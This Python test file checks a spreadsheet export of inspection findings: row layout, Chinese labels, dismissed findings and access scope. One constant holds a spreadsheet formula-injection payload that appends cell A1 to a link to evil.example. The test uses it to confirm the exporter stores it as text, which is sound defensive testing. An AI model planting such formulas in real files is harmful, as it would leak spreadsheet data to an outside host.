"""Bulk export of an inspection's results with their findings (.xlsx): one row per active finding with the
target, its unit's name, the indicator's Chinese name, severity, evidence link and first sighting in Beijing
time; a target without findings keeps one row; no cell is a formula; scope holds."""
import io
from datetime import UTC, datetime

from openpyxl import load_workbook
from sqlmodel import Session

from services.checker.inspections.models import (
    Finding, Inspection, InspectionResult, InspectionState, ResultStatus, TargetKind, Verdict,
)
from services.common.db import get_engine

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


def make_inspection(world) -> int:
    now = datetime(2026, 12, 1, 2, 0, tzinfo=UTC)
    with Session(get_engine()) as session:
        inspection = Inspection(name="导出测试检查", scope_org_id=world.county.id, scope_org_path=world.county.path,
                                now=now, state=InspectionState.completed, target_count=2, created_by="user:1")
        session.add(inspection)
        session.flush()
        failing = InspectionResult(inspection_id=inspection.id, kind=TargetKind.site, target_id=world.sites["edu"].id,
                                   name=EVIL, url="http://127.0.0.3/", org_path=world.dept.path,
                                   status=ResultStatus.ok, verdict=Verdict.fail, score=100.0, checked_at=now)
        passing = InspectionResult(inspection_id=inspection.id, kind=TargetKind.account,
                                   target_id=world.accounts["county"].id, name="检查测试县发布", url="weibo",
                                   org_path=world.county.path, status=ResultStatus.ok, verdict=Verdict.pass_,
                                   score=95.0, checked_at=now)
        session.add_all([failing, passing])
        session.flush()
        session.add(Finding(result_id=failing.id, inspection_id=inspection.id, kind=TargetKind.site,
                            target_id=failing.target_id, indicator="dark_link", severity="veto", message="首页存在暗链",
                            evidence=[{"url": "http://127.0.0.3/", "excerpt": "…",
                                       "observed_at": "2026-11-30T16:30:00+00:00"}]))
        session.add(Finding(result_id=failing.id, inspection_id=inspection.id, kind=TargetKind.site,
                            target_id=failing.target_id, indicator="typo", severity="deduct", message="错别字2处",
                            count=2, evidence=[{"url": "http://127.0.0.3/a.html"}]))
        session.add(Finding(result_id=failing.id, inspection_id=inspection.id, kind=TargetKind.site,
                            target_id=failing.target_id, indicator="broken_link", severity="deduct",
                            message="已排除的问题", dismissed=True, evidence=[]))
        session.commit()
        return inspection.id


def test_export_has_a_row_per_finding_in_chinese(checker, tokens, world):
    inspection_id = make_inspection(world)
    response = checker.get(f"/api/v1/inspections/{inspection_id}/export", headers=tokens("ct_supervisor"))
    assert response.status_code == 200, response.text
    assert "attachment" in response.headers["content-disposition"] and response.headers["x-content-type-options"] == "nosniff"
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = [[c.value for c in row] for row in sheet.iter_rows()]
    header, *body = rows
    assert header[:6] == ["序号", "检查对象", "类型", "网址或平台", "责任单位", "检查结论"]
    by_problem = {r[7]: r for r in body}
    dark = by_problem["存在暗链"]
    assert dark[1] == EVIL and dark[2] == "政府网站" and dark[4] == "检查测试县教育局" and dark[5] == "不合格"
    assert dark[8] == "单项否决" and dark[11] == "http://127.0.0.3/" and dark[12] == "2026-12-01 00:30"
    assert by_problem["错别字"][8] == "扣分" and by_problem["错别字"][10] == 2
    assert "已排除的问题" not in [r[9] for r in body]          # dismissed findings are not problems
    (account,) = [r for r in body if r[1] == "检查测试县发布"]
    assert account[5] == "合格" and account[7] in (None, "") and account[4] == "检查测试县"
    # The hostile name is text, never a formula.
    cells = [c for row in sheet.iter_rows() for c in row if c.value == EVIL]
    assert cells and all(c.data_type == "s" for c in cells)


def test_export_keeps_to_scope(checker, tokens, world):
    inspection_id = make_inspection(world)
    outside = checker.get(f"/api/v1/inspections/{inspection_id}/export", headers=tokens("nb_supervisor"))
    assert outside.status_code == 404 and "不存在" in outside.json()["detail"]["message"]
    viewer = checker.get(f"/api/v1/inspections/{inspection_id}/export", headers=tokens("ct_viewer"))
    assert viewer.status_code == 200
